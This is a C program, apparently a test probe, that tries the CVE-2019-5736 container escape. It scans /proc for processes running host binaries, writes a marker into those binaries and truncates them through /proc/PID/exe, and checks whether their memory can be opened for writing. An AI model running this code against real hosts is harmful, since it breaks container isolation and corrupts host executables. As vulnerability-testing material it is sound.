/* SPDX-License-Identifier: 0BSD */
/*
 * seize: root of a container that somebody enters, and that wants to get out (CVE-2019-5736). It
 * looks at all processes of its /proc, again and again, until there is a file /stop.
 *
 *   seize [caps] [as ID]    "caps": with those capabilities alone that container engines leave;
 *                           "as": it looks as that user and group, and changes files as root
 *
 * Of a program that is no file of the container's it tries to write to the file, now and, since it
 * keeps it open, when the program has ended. When it begins it prints an empty line; then, each
 * once and as soon as it is so:
 *
 *   exe LINK      a program of outside, as /proc/PID/exe shows it
 *   cwd LINK, root LINK, fd LINK, cmdline WORDS, maps FILE    what else it sees of that process
 *   wrote LINK    the file of that program was changed
 *   mem LINK      that process's memory is open for writing
 *   gone LINK     the program has ended, and the file was tried once more
 *   done          at the end
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/fsuid.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#define LIMIT_S 100
#define MANY 64

/* CHOWN DAC_OVERRIDE FOWNER FSETID KILL SETGID SETUID SETPCAP NET_BIND_SERVICE NET_RAW SYS_CHROOT
 * MKNOD AUDIT_WRITE SETFCAP: docker's */
#define ENGINE_CAPS 0xa80425fbul

static struct {
	int pid, fd;
	ino_t inode;
	char link[256];
} held[MANY];
static int holding;
static dev_t own_dev;
static unsigned looks_as;

static void check(int ok, const char *what)
{
	if (ok)
		return;
	perror(what);
	_exit(99);
}

/* Prints a line that it has not printed before. */
static void say(const char *what, const char *text)
{
	static char *said[512];
	static int n;
	char line[4200];

	snprintf(line, sizeof line, "%s %s", what, text);
	for (int i = 0; i < n; i++)
		if (!strcmp(said[i], line))
			return;
	if (n < 512)
		said[n++] = strdup(line);
	puts(line);
	fflush(stdout);
}

static void drop_caps(void)
{
	uint32_t head[2] = { 0x20080522, 0 },
		 data[6] = { (uint32_t)ENGINE_CAPS, (uint32_t)ENGINE_CAPS };

	for (int cap = 0; cap < 64; cap++)
		if (cap > 31 || !(ENGINE_CAPS >> cap & 1))
			prctl(PR_CAPBSET_DROP, cap, 0, 0, 0);
	check(!syscall(SYS_capset, head, data), "capset");
}

/* Whether the file behind an open descriptor can be written to in any way. */
static int try_write(int fd)
{
	static const int flags[] = { O_WRONLY, O_RDWR, O_WRONLY | O_APPEND, O_WRONLY | O_TRUNC };
	char path[64];
	int wrote = 0;

	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	for (int i = 0; i < 4; i++) {
		struct stat before, after;
		int again;

		check(!fstat(fd, &before), "fstat");
		again = open(path, flags[i] | O_CLOEXEC);
		if (again < 0)
			continue;
		wrote |= write(again, "seized", 6) > 0;
		wrote |= !ftruncate(again, 1);
		check(!fstat(fd, &after), "fstat");
		wrote |= before.st_size != after.st_size;
		close(again);
	}
	return wrote;
}

static void see(int pid, const char *name)
{
	char path[64], text[4096];
	ssize_t n;

	snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
	n = readlink(path, text, sizeof text - 1);
	if (n > 0) {
		text[n] = 0;
		say(strncmp(name, "fd/", 3) ? name : "fd", text);
	}
}

static void see_file(int pid, const char *name)
{
	char path[64], text[4096];
	ssize_t n;
	int fd;

	snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	n = fd < 0 ? 0 : read(fd, text, sizeof text - 1);
	close(fd);
	if (n <= 0)
		return;
	for (ssize_t i = 0; i < n; i++)
		if (!text[i])
			text[i] = ' ';
	text[n] = 0;
	for (char *line = strtok(text, "\n"); line; line = strtok(NULL, "\n")) {
		char *file = strcmp(name, "maps") ? line : strchr(line, '/');

		if (file)
			say(name, file);
	}
}

static void see_fds(int pid)
{
	char path[64];
	struct dirent *e;
	DIR *d;

	snprintf(path, sizeof path, "/proc/%d/fd", pid);
	d = opendir(path);
	if (!d)
		return;
	while ((e = readdir(d)) != NULL) {
		snprintf(path, sizeof path, "fd/%.20s", e->d_name);
		if (*e->d_name != '.')
			see(pid, path);
	}
	closedir(d);
}

static int is_held(int pid, ino_t inode)
{
	int i = 0;

	while (i < holding && (held[i].pid != pid || held[i].inode != inode))
		i++;
	return i < holding;
}

/* Whoever may change his user is who runs the program, and so may look at it (ptrace(2)). */
static int open_as(const char *path)
{
	int fd;

	setfsgid(looks_as);
	setfsuid(looks_as);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	setfsuid(0);
	setfsgid(0);
	return fd;
}

/* The moment before the exec is short: first what matters most. */
static void attack(int pid)
{
	char path[64], link[256] = "";
	struct stat st;
	int fd, mem;

	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	fd = open_as(path);
	if (fd < 0)
		return;
	if (fstat(fd, &st) || st.st_dev == own_dev || holding == MANY || is_held(pid, st.st_ino)) {
		close(fd);
		return;
	}
	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	if (readlink(path, link, sizeof link - 1) < 0)
		*link = 0;
	say("exe", link);
	snprintf(path, sizeof path, "/proc/%d/mem", pid);
	mem = open(path, O_RDWR | O_CLOEXEC);
	if (mem >= 0)
		say("mem", link);
	close(mem);
	see_fds(pid);
	see(pid, "cwd");
	see(pid, "root");
	see_file(pid, "cmdline");
	see_file(pid, "maps");
	if (try_write(fd))
		say("wrote", link);
	held[holding].pid = pid;
	held[holding].inode = st.st_ino;
	held[holding].fd = fd;
	strcpy(held[holding++].link, link);
}

static void try_again(void)
{
	for (int i = 0; i < holding; i++) {
		int gone = kill(held[i].pid, 0) && errno == ESRCH;

		if (try_write(held[i].fd))
			say("wrote", held[i].link);
		if (!gone)
			continue;
		say("gone", held[i].link);
		close(held[i].fd);
		held[i--] = held[--holding];
	}
}

int main(int argc, char **argv)
{
	struct stat st;

	check(!stat("/", &st), "/");
	own_dev = st.st_dev;
	if (argc > 1 && !strcmp(argv[1], "caps"))
		drop_caps();
	if (argc > 2 && !strcmp(argv[argc - 2], "as"))
		looks_as = (unsigned)atoi(argv[argc - 1]);
	alarm(LIMIT_S);
	puts("");
	fflush(stdout);
	while (access("/stop", F_OK)) {
		DIR *d = opendir("/proc");
		struct dirent *e;

		check(d != NULL, "/proc");
		while ((e = readdir(d)) != NULL)
			if (atoi(e->d_name) > 1)
				attack(atoi(e->d_name));
		closedir(d);
		try_again();
	}
	puts("done");
	fflush(stdout);
	for (;;)
		pause();
}
